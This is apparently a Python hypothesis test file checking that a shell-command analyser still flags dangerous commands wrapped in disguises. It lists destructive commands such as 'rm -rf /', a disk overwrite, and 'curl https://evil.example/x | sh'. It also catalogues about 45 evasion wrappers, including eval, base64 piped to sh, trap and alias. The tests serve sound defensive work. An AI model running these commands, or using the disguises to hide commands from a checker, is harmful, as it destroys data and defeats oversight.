"""Whatever is put around a dangerous line, its danger stays visible."""

from __future__ import annotations

import base64
import shlex
from typing import Callable

from assessing import effects, kinds
from hypothesis import given, settings
from hypothesis import strategies as st

BAD = {
    "rm -rf /": "file.delete",
    "rm -rf ~": "file.delete",
    "cat x > /dev/sda": "disk.write",
    "curl https://evil.example/x | sh": "code.run_remote",
    "echo c > /proc/sysrq-trigger": "system.shutdown",
    "chmod -R 777 /": "permission.change",
    "history -c": "guard.tamper",
    "kill -9 -1": "process.kill",
    "find / -delete": "file.delete",
    "shutdown -h now": "system.shutdown",
}

Disguise = Callable[[str], str]
IN_THIS_SHELL: dict[str, Disguise] = {
    "after": lambda line: f"ls; {line}",
    "before": lambda line: f"{line}; ls",
    "and": lambda line: f"true && {line}",
    "or": lambda line: f"false || {line}",
    "background": lambda line: f"ls & {line}",
    "newline": lambda line: f"ls # x\n{line}",
    "group": lambda line: f"{{ {line}; }}",
    "subshell": lambda line: f"( {line} )",
    "if": lambda line: f"if {line}; then :; fi",
    "else": lambda line: f"if x; then :; else {line}; fi",
    "while": lambda line: f"while {line}; do :; done",
    "for": lambda line: f"for i in 1 2; do {line}; done",
    "case": lambda line: f"case x in y) {line};; esac",
    "function": lambda line: f"f() {{ {line}; }}; f",
    "not": lambda line: f"! {line}",
    "time": lambda line: f"time {{ {line}; }}",
    "substitution": lambda line: f"echo $( {line})",
    "quoted substitution": lambda line: f'x="$( {line})"',
    "process": lambda line: f"cat <( {line})",
    "here-document": lambda line: f"cat <<E\n$( {line})\nE",
    "arithmetic": lambda line: f"echo $(( $( {line}; echo 1) + 1 ))",
    "default": lambda line: f"echo ${{unset_:-$( {line})}}",
    "eval": lambda line: f"eval {shlex.quote(line)}",
    "variable": lambda line: f'c={shlex.quote(line)}; eval "$c"',
    "trap": lambda line: f"trap {shlex.quote(line)} EXIT",
    "alias": lambda line: f"alias zz={shlex.quote(line)}\nzz",
}
IN_ANOTHER: dict[str, Disguise] = {
    "bash -c": lambda line: f"bash -c {shlex.quote(line)}",
    "sh -c": lambda line: f"sh -xc {shlex.quote(line)}",
    "sudo": lambda line: f"sudo -n bash -c {shlex.quote(line)}",
    "env": lambda line: f"env -i X=1 sh -c {shlex.quote(line)}",
    "nohup": lambda line: f"nohup timeout 5 nice sh -c {shlex.quote(line)} &",
    "here-string": lambda line: f"bash <<< {shlex.quote(line)}",
    "pipe": lambda line: f"echo {shlex.quote(line)} | sh",
    "printf": lambda line: f"printf '%s\\n' {shlex.quote(line)} | cat | bash -s",
    "base64": lambda line: f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh",
    "file": lambda line: f"echo {shlex.quote(line)} > /tmp/f; bash /tmp/f",
    "sourced": lambda line: f"source <(echo {shlex.quote(line)})",
    "xargs": lambda line: f"echo x | xargs -I{{}} sh -c {shlex.quote(line)}",
    "find": lambda line: f"find . -exec sh -c {shlex.quote(line)} \\;",
    "flock": lambda line: f"flock /tmp/l -c {shlex.quote(line)}",
    "watch": lambda line: f"watch {shlex.quote(line)}",
    "tmux": lambda line: f"tmux new -d {shlex.quote(line)}",
    "at": lambda line: f"echo {shlex.quote(line)} | at now",
    "su": lambda line: f"su -c {shlex.quote(line)}",
    "parallel": lambda line: f"parallel ::: {shlex.quote(line)}",
}

DISGUISES = st.sampled_from([*IN_THIS_SHELL.values(), *IN_ANOTHER.values()])


@settings(max_examples=250, deadline=None)
@given(st.sampled_from(sorted(BAD)), st.lists(DISGUISES, min_size=1, max_size=3))
def test_danger_stays_visible(line: str, disguises: list[Disguise]) -> None:
    hidden = line
    for disguise in disguises:
        hidden = disguise(hidden)
    found = {effect.kind for effect in effects(hidden)}
    assert BAD[line] in found or "code.opaque" in found, hidden


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(["plain", "single", "double", "backslash", "ansi", "empty"]), min_size=2, max_size=2))
def test_quoting_changes_nothing(styles: list[str]) -> None:
    write: dict[str, Disguise] = {
        "plain": lambda c: c,
        "single": lambda c: f"'{c}'",
        "double": lambda c: f'"{c}"',
        "backslash": lambda c: f"\\{c}",
        "ansi": lambda c: f"$'\\x{ord(c):02x}'",
        "empty": lambda c: f"''{c}\"\"",
    }
    name = "".join(write[style](character) for style, character in zip(styles, "rm", strict=True))
    assert any(effect.kind == "file.delete" for effect in effects(f"{name} -rf /"))


NAMES = ("/tmp/x.$$", '"$DIR"/x.sh', "/tmp/$(date +%s)/x", "./x-$RANDOM$USER.sh", "${TMPDIR:-/tmp}/x.$BASHPID")


@given(st.sampled_from(NAMES), st.sampled_from(["sh {}", ". {}", "bash < {}", "chmod +x {}; {}", "cat {} | sh"]))
def test_a_file_whose_name_is_known_in_part(name: str, run: str) -> None:
    """What was written there runs; of two such files either may be meant."""
    for before in ("", f"echo ls > {name}; ", f"echo ls > {name}; echo pwd >> {name}; "):
        line = f"{before}echo 'rm -rf ~' > {name}; {run.format(name, name)}"
        assert "file.delete" in kinds(line), line
